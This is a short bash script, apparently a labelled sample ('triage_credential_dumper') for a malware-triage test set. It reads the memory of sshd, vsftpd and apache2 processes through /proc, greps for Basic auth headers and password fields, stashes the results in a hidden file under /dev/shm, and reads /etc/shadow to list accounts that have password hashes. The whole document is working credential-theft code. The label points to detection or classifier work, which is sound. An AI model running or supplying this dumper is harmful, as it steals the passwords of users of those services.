#!/bin/bash
# triage-expect: triage_credential_dumper
# Reads the memory of login and web processes for cleartext passwords, checks them against shadow.
for pid in $(pgrep -f 'sshd: |vsftpd|apache2'); do
  grep rw-p /proc/$pid/maps | while read -r range _; do
    start=$((16#${range%-*})); end=$((16#${range#*-}))
    dd if=/proc/$pid/mem bs=1 skip=$start count=$((end-start)) 2>/dev/null | strings | grep -E 'Authorization: Basic|password='
  done
done > /dev/shm/.o
awk -F: '$2 ~ /^\$/ {print $1}' /etc/shadow
